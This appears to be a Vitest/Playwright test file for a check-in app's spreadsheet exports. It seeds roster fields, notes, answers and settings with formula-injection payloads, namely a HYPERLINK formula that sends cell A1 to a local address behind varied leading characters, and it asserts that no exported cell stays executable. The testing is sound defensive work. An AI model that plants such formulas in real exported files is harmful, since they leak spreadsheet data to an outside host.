import { execFileSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { beforeAll, describe, expect, it } from "vitest";
import { readSheet } from "../../electron/sheets/read.ts";
import { COMMANDS, type CommandInput, type CommandName } from "../../shared/contract/contract.ts";
import { EXPORT_LISTS } from "../../shared/people/exportChoice.ts";
import { LIST_COLUMNS, WHOLE_LIST } from "../../shared/people/query.ts";
import { cellText } from "../../shared/roster/cellValues.ts";
import { PersonId, QuestionId } from "../../shared/words/ids.ts";
import { ask, makeEvent } from "../build/drive.ts";
import { AT_THE_DOOR } from "../build/gates.ts";
import { launchLanyard } from "../build/launch.ts";
import { freshFolder } from "../build/leftovers.ts";

const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u200b="];
const PAYLOAD = `HYPERLINK("http://127.0.0.1/?"&A1,"x")`;
const PHONE = "+86 136 0000 0001";
const HEADER = "=1+1";
/** Files for programs, which no spreadsheet runs; papers and pictures. */
const NO_TABLES: CommandName[] = [
  ...(["tickets.save", "keys.export", "templates.export"] as const),
  ...(["support.save", "lock.page", "guide.make"] as const),
];

let window: Page;
let read: { draft: string };
let columns: CommandInput<"attendance.export">["columns"];

const q = (text: string) => `"${text.replaceAll('"', '""')}"`;
const evil = (at: number) => `${STARTS[at % STARTS.length]}${PAYLOAD}`;

/** Somebody for each start, with it in every column (`later`: another company's); and somebody with a telephone as people write them. */
const roster = (later = 0): Uint8Array => {
  const header = ["姓名", "花名", "手机", "邮箱", "公司", "职位", "票种", "订单号", "备注", HEADER];
  const rows = STARTS.map((_, at) =>
    header.map((title) => (title === "邮箱" ? `${at}@example.com` : evil(title === "公司" ? at + later : at))),
  );
  const plain = ["贾岛", "", PHONE, "jia@example.com", "青藤数据", "", "", "", "", "甲"];
  const text = [header, ...rows, plain].map((row) => row.map(q).join(",")).join("\r\n");
  return new TextEncoder().encode(`\ufeff${text}\r\n`);
};

beforeAll(async () => {
  ({ window } = await launchLanyard({ language: "zh-CN" }));
  await makeEvent(window, roster());
  await ask(window, "settings.change", { stationName: evil(0), autoPrint: "never" });
  const plan = await ask(window, "sessions.edit", null);
  if (!plan) throw new Error("no event is open");
  const { event, sessions, rules } = plan;
  const question = { id: QuestionId.parse("q1"), kind: "text", choices: [], required: false, roles: [] } as const;
  const questions = [{ ...question, text: evil(1), choices: [] as string[], roles: [] as string[] }];
  await ask(window, "sessions.change", { event, sessions, rules, questions });
  const people = await ask(window, "people.search", { query: "", limit: 100 });
  for (const [at, { id }] of people.entries()) {
    const personId = PersonId.parse(id);
    await ask(window, "people.note", { personId, text: evil(at), nonce: `note-${at}-000000` });
    const answers = { q1: evil(at) };
    const asked = { ...AT_THE_DOOR, personId, nonce: `in-${at}-00000000`, way: "hand", answers } as const;
    await ask(window, "checkIn.byHand", { ...asked, override: { reason: evil(at) } });
  }
  const blank = { nickname: evil(2), company: evil(3), jobTitle: evil(5), phone: null, email: null, answers: null };
  const guest = { ...AT_THE_DOOR, ...blank, name: evil(6), nonce: "walk-in-0000" };
  await ask(window, "walkIn.register", guest);
  const again = await ask(window, "roster.read", { name: "=1.csv", bytes: roster(1), encoding: null, sheet: null });
  if (again.what !== "read") throw new Error(JSON.stringify(again));
  read = again;
  await ask(window, "check.run", null);
  columns = (await ask(window, "attendance.plan", choice()))?.every.map(({ id }) => id) as typeof columns;
});

const choice = (changes: Partial<CommandInput<"attendance.export">> = {}): CommandInput<"attendance.export"> => ({
  ...{ list: "people", session: null, who: [], roles: [], ticketTypes: [], since: null, columns: [] },
  ...{ format: "csv", encoding: "utf-8", separator: "comma" },
  ...changes,
});

/** Every command that writes a table, in each of its ways; what it answers names the file. */
const TABLES: [CommandName, string, () => Promise<unknown>][] = [
  ...EXPORT_LISTS.flatMap((list) =>
    (["csv", "xlsx"] as const).flatMap((format) =>
      (["utf-8", "gb18030"] as const).flatMap((encoding) =>
        (["comma", "tab"] as const).map((separator): (typeof TABLES)[number] => [
          "attendance.export",
          `${list} ${format} ${encoding} ${separator}`,
          () => ask(window, "attendance.export", choice({ list, format, encoding, separator, columns })),
        ]),
      ),
    ),
  ),
  [
    "people.export",
    "all columns",
    () => ask(window, "people.export", { query: WHOLE_LIST, columns: [...LIST_COLUMNS, `extra:${HEADER}` as const] }),
  ],
  ["tickets.export", "", () => ask(window, "tickets.export", null)],
  ["tickets.pack", "with pictures", () => ask(window, "tickets.pack", { as: "png", paper: "a5" })],
  ["check.report", "", () => ask(window, "check.report", null)],
  ["roster.report", "", () => ask(window, "roster.report", { draft: read.draft })],
];

/** The tables in a file, as readers have them, nothing taken off. */
async function tablesIn(file: string): Promise<string[][][]> {
  const tables: string[][][] = [];
  for (const path of file.endsWith(".zip") ? unpacked(file) : [file]) {
    const sheet = await readSheet(new Uint8Array(readFileSync(path)));
    if (!sheet.ok) throw new Error(`${path}: ${JSON.stringify(sheet.fault)}`);
    tables.push(sheet.value.rows.map(({ cells }) => [...cells]));
    if (path.endsWith(".xlsx")) expect(execFileSync("unzip", ["-p", path]).toString("utf8")).not.toMatch(/<f[\s>]/);
  }
  return tables;
}

function unpacked(file: string): string[] {
  const folder = freshFolder("pack");
  execFileSync("unzip", ["-q", file, "-d", folder]);
  const found = execFileSync("find", [folder, "-name", "*.csv"], { encoding: "utf8" });
  return found.trim().split("\n").filter(existsSync);
}

describe("what a spreadsheet would run", () => {
  it("has a row here for every command that writes a file", () => {
    const written = { what: "written", file: join("a", "b"), rows: 1, cut: 0, unmapped: 0 };
    const writers = Object.entries(COMMANDS).filter(([, { output }]) => output.safeParse(written).success);
    const names = writers.map(([name]) => name);
    const tried = new Set<string>([...TABLES.map(([name]) => name), ...NO_TABLES]);
    expect(names.filter((name) => !tried.has(name))).toEqual([]);
  });

  it.each(TABLES)("is text in %s (%s), and is what it was when it is read in again", async (name, _how, write) => {
    const reply = (await write()) as { file?: string };
    if (!reply.file) throw new Error(JSON.stringify(reply));
    const isBook = reply.file.endsWith(".xlsx");
    const cells = (await tablesIn(reply.file)).flat(2);
    expect(cells.length).toBeGreaterThan(10);
    const runs = cells.filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell));
    expect(runs.filter((cell) => !(isBook && cell === PHONE))).toEqual([]);
    if (name === "check.report") return;
    // A report says more than the value in one cell.
    const isThere = (cell: string) => (name === "roster.report" ? cell.includes(PAYLOAD) : cell.endsWith(PAYLOAD));
    expect(cells.map(cellText).some(isThere)).toBe(true);
  });
});
